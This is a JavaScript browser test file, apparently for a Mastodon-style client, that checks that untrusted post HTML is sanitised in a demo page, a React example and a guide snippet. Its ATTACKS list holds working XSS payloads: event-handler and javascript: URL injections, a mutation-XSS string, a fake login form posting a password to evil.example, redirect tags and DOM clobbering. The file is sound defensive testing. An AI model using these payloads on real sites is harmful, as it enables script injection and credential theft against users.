// What pages show of strangers: the demo page, the example in React, and the guide's few lines, in Chromium.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { build } from "esbuild";
import { findChromium, launchChromium } from "../../scripts/browser.mjs";
import { ROOT } from "../../scripts/run.mjs";
import { changeAnswers } from "../answers.mjs";
import { go, setUp, visitAs } from "../page/visitor.mjs";

const skip = findChromium() ? false : "no Chromium or Chrome here (CHROME_PATH names one)";

/** HTML that wants to be more than a post. */
const ATTACKS = [
  '<form action="https://evil.example" method="post"><input name="password" type="password"><button>Log in</button></form>',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Your session ended</div>',
  '<p style="position:fixed;inset:0">over it all</p>',
  '<a href="https://evil.example" style="position:fixed;inset:0">all of the window</a>',
  '<a href="https://evil.example" class="gallery-cover lightbox dialog">all of the window</a>',
  '<p class="lightbox" id="page">a dialog</p>',
  '<img src="https://evil.example/track.png">',
  '<img src=x onerror="window.ran=1">',
  '<svg onload="window.ran=1"><a xlink:href="javascript:window.ran=1"><text y="20">x</text></a></svg>',
  '<math><a xlink:href="javascript:window.ran=1">x</a></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="javascript:window.ran=1"></object><embed src="javascript:window.ran=1">',
  "<script>window.ran=1</script>",
  "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/a.css>",
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<a href="javascript:window.ran=1">a</a><a href="JaVaScRiPt:window.ran=1">b</a>',
  '<a href="java\tscript:window.ran=1">c</a><a href="&#106;avascript:window.ran=1">d</a>',
  '<a href="data:text/html,<script>1</script>">e</a><a href="vbscript:x">f</a><a href="file:///etc/passwd">g</a>',
  '<a href="mailto:a@b.example">h</a><a href="web+mastodon://share">i</a><a href="intent://x">j</a><a href="/logout">k</a>',
  '<video src="https://evil.example/a.mp4" autoplay></video><audio src="https://evil.example/a.mp3">',
  '<details open ontoggle="window.ran=1"><summary>x</summary></details><dialog open>x</dialog>',
  '<textarea><img src=x onerror="window.ran=1"></textarea><select><option>x</select><button popovertarget=x>x</button>',
  '<p data-x="1" aria-label="x" role="alert" tabindex="0" contenteditable slot="x" is="x-y" popover>x</p>',
  '<template><img src=x onerror="window.ran=1"></template><noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
  '<p name="location" id="cookie">x</p><a id="location" name="document" href="https://evil.example">clobber</a>',
  "<custom-element>x</custom-element><frameset><frame src=javascript:window.ran=1>",
];
const HARMLESS =
  '<p>A <strong>harmless</strong> post with <a href="https://example.org/">a link</a></p>';

/** What is wrong with the markup below an element; runs in the page. */
function problems(element) {
  const found = [];
  const tags =
    /^(p|br|span|a|em|strong|b|i|u|s|del|small|sub|sup|code|pre|blockquote|ul|ol|li|h[1-4]|ruby|rt|rp)$/;
  const attributes = /^(href|lang|translate|target|rel|class|start|reversed|value)$/;
  const classes = /^(invisible|ellipsis|mention|hashtag|h-card|u-url|)$/;
  for (const each of element.querySelectorAll("*")) {
    if (!tags.test(each.localName)) found.push(each.localName);
    for (const { name, value } of each.attributes) {
      // An empty `is` is what a sanitiser leaves of one: it cannot be taken away.
      if (name === "is" && value === "") continue;
      if (!attributes.test(name)) found.push(`${name}=${value}`);
      if (name === "class" && !value.split(/\s+/).every((one) => classes.test(one)))
        found.push(value);
    }
    if (each.localName === "a" && each.hasAttribute("href")) {
      if (!/^(https?:|#)/.test(each.getAttribute("href"))) found.push(each.getAttribute("href"));
    }
  }
  return found;
}

describe("HTML of strangers", { skip }, () => {
  let browser;
  before(async () => {
    browser = await launchChromium();
  });
  after(() => browser?.close());

  /** What a sanitiser makes of all attacks, in a page without any policy. */
  async function attacked(t, source) {
    const bundled = await build({
      stdin: { contents: source, resolveDir: ROOT, loader: "ts" },
      bundle: true,
      write: false,
      format: "iife",
      globalName: "shown",
    });
    const tab = await browser.newPage();
    t.after(() => tab.close());
    const requests = [];
    tab.on("request", (request) => requests.push(request.url()));
    await tab.route("**/*", (route) => route.abort());
    await tab.setContent("<main></main>");
    await tab.evaluate(
      bundled.outputFiles[0].text.replace(/^"use strict";\s*var shown/, "window.shown"),
    );
    for (const html of [...ATTACKS, ATTACKS.join("")]) {
      const found = await tab.evaluate(
        ({ html, check }) => {
          const place = document.createElement("div");
          document.body.append(place);
          window.shown.show(html, place);
          return new Function(`return (${check})(arguments[0])`)(place);
        },
        { html, check: String(problems) },
      );
      assert.deepEqual(found, [], html);
    }
    const text = await tab.evaluate((html) => {
      const place = document.createElement("div");
      window.shown.show(html, place);
      return [
        place.textContent,
        place.querySelector("a")?.href,
        place.querySelectorAll("strong").length,
      ];
    }, HARMLESS);
    assert.deepEqual(text, ["A harmless post with a link", "https://example.org/", 1]);
    await new Promise((resolve) => setTimeout(resolve, 300));
    assert.equal(await tab.evaluate(() => window.ran), undefined);
    assert.deepEqual(requests, []);
  }

  it("is a post and nothing more in the example in React", (t) =>
    attacked(
      t,
      `import { sanitize } from "./examples/vite-react/src/sanitize.ts";
       export function show(html, place) { place.innerHTML = sanitize(html); }`,
    ));

  it("is a post and nothing more in the guide", (t) => {
    const guide = readFileSync(path.join(ROOT, "docs/guide/first-app.md"), "utf8");
    const [, code] = guide.match(/```ts\n(import DOMPurify[\s\S]*?)```/);
    const asStatus = `${code.replace("export function show", "function guided")}
      export function show(html, place) { guided({ content: html } as Status, place); }`;
    return attacked(t, asStatus);
  });

  it("is shown under a policy that lets no form be sent", () => {
    const read = (name) => readFileSync(path.join(ROOT, "examples", name), "utf8");
    for (const name of [
      "plain-html/index.html",
      "vite-react/index.html",
      "vite-react/vite.config.ts",
    ]) {
      assert.match(read(name), /form-action 'none'/, name);
      assert.match(read(name), /base-uri 'none'/, name);
    }
    assert.match(read("vite-react/vite.config.ts"), /"default-src 'none'"/);
    // No example and no guide shows HTML in any other way.
    for (const file of [
      "vite-react/src/App.tsx",
      "vite-react/src/main.tsx",
      "plain-html/index.html",
    ]) {
      assert.doesNotMatch(read(file), /innerHTML|dangerously|insertAdjacentHTML|document\.write/);
    }
  });
});

describe("the demo page", { skip }, () => {
  const world = setUp();
  const tolerate = [
    ...[/Failed to load resource/, /net::ERR/, /security policy: img-src/],
    // What the attacks try while they are parsed, which the policy stops before they are cut away.
    ...[/violates the following Content Security/, /security policy: (style-src|base-uri)/],
  ];

  /** Opens a view whose list is what `change` makes of the sandbox's. */
  async function open(t, route, hash, change) {
    const tab = await visitAs(world, t, "mina", { tolerate });
    await changeAnswers(tab, route, change);
    await go(tab, hash);
    return tab;
  }
  const list = (tab) => tab.locator(".view:not([hidden]) .feed-list > article");

  it("shows the other posts where some are broken", async (t) => {
    let count = 0;
    const tab = await open(t, "**/api/v1/timelines/public*", "#/public", (all) => {
      const [first] = all;
      const evil = { toString: 1 };
      const broken = [
        ...[null, 5, "text", [], {}, { id: evil }, { id: "b1" }],
        { ...first, id: "b2", account: null },
        { ...first, id: "b3", account: { ...first.account, emojis: null, acct: evil } },
        { ...first, id: "b4", content: evil },
        { ...first, id: "b5", media_attachments: [null] },
        { ...first, id: "b6", media_attachments: null },
        { ...first, id: "b7", poll: { options: null } },
        { ...first, id: "b8", emojis: [null, { shortcode: evil }] },
        {
          ...first,
          id: "b9",
          mentions: null,
          tags: [null],
          content: '<a href="#" class="hashtag">#a</a>',
        },
        { ...first, id: "b10", card: { url: "::", title: evil } },
        { ...first, id: "b11", visibility: "constructor", language: evil, created_at: evil },
        { ...first, id: "b12", reblog: { id: "b13" } },
        { ...first, id: "b14", quote: { quoted_status: { id: "b15" } } },
        { ...first, id: "b16", spoiler_text: evil },
      ];
      count = all.length;
      return all.flatMap((status, at) =>
        broken[at] === undefined ? [status] : [broken[at], status],
      );
    });
    await list(tab)
      .nth(count - 1)
      .waitFor();
    const ids = await list(tab).evaluateAll((all) => all.map((each) => each.dataset.entry));
    assert.ok(ids.filter((id) => id && !/^b\d/.test(id)).length >= count, `${ids}`);
    assert.equal(await tab.locator(".view:not([hidden]) [role=alert]").count(), 0);
  });

  it("takes no class and no link of the server's", async (t) => {
    const scripts = [
      "javascript:window.ran=1",
      "data:text/html,x",
      "vbscript:x",
      "file:///x",
      "blob:x",
    ];
    const tab = await open(t, "**/api/v1/timelines/public*", "#/public", (all) =>
      all.map((status, at) => {
        const url = scripts[at % scripts.length];
        const attachment = {
          id: "1",
          type: "unknown lightbox gallery-cover skip",
          url,
          remote_url: url,
          preview_url: url,
        };
        return {
          ...status,
          url,
          content: ATTACKS[at % ATTACKS.length] + HARMLESS,
          account: { ...status.account, url },
          mentions: [{ id: "1", acct: "a", url, username: "a" }],
          media_attachments: at % 2 ? [attachment] : [],
          card: at % 2 ? null : { url, title: "x", type: "link evil", provider_name: "" },
          visibility: "public lightbox",
          reblog: null,
        };
      }),
    );
    await list(tab).nth(10).waitFor();
    const links = await tab
      .locator("a[href]")
      .evaluateAll((all) => all.map((a) => a.getAttribute("href")));
    assert.deepEqual(
      links.filter((href) => !/^(https?:\/\/|#)/.test(href)),
      [],
    );
    const classes = await tab
      .locator(".view:not([hidden]) figure")
      .evaluateAll((all) => [...new Set(all.map((each) => each.className))]);
    assert.deepEqual(classes, ["tile tile-unknown"]);
    const found = await tab
      .locator(".view:not([hidden]) .content")
      .evaluateAll(
        (all, check) =>
          all.flatMap((each) => new Function(`return (${check})(arguments[0])`)(each)),
        String(problems),
      )
      .catch((error) => error);
    // The page's own policy allows no `eval`, so that the check is done on a copy.
    if (found instanceof Error) {
      const html = await tab
        .locator(".view:not([hidden]) .content")
        .evaluateAll((all) => all.map((each) => each.innerHTML));
      const copy = await world.browser.newPage();
      await copy.setContent("<main></main>");
      const wrong = await copy.evaluate(
        ({ html, check }) =>
          html.flatMap((each) => {
            const inert = new DOMParser().parseFromString(each, "text/html");
            return new Function(`return (${check})(arguments[0])`)(inert.body);
          }),
        { html, check: String(problems) },
      );
      await copy.close();
      assert.deepEqual(wrong, []);
    } else assert.deepEqual(found, []);
    assert.equal(await tab.evaluate(() => window.ran), undefined);
  });

  it("takes no class of a notification's kind", async (t) => {
    const tab = await open(t, "**/api/v1/notifications*", "#/notifications", (all) =>
      all.map((each, at) => ({
        ...each,
        type: ["x lightbox", "constructor", "__proto__", each.type][at % 4],
      })),
    );
    await list(tab).nth(3).waitFor();
    const classes = await list(tab).evaluateAll((all) => all.map((each) => each.className));
    for (const each of classes) assert.doesNotMatch(each, /lightbox|constructor|__proto__/);
  });

  it("has a page for every address that somebody may type", async (t) => {
    const tab = await visitAs(world, t, "mina");
    for (const hash of [
      "#/@%",
      "#/tags/%E0%A4%A",
      "#/status/%",
      "#/search/%zz",
      "#/%",
      "#/__proto__",
    ]) {
      await go(tab, hash);
      await tab
        .locator(".view:not([hidden])")
        .getByText(/nothing here|no such page|not found|does not exist/i)
        .first()
        .waitFor();
    }
  });
});
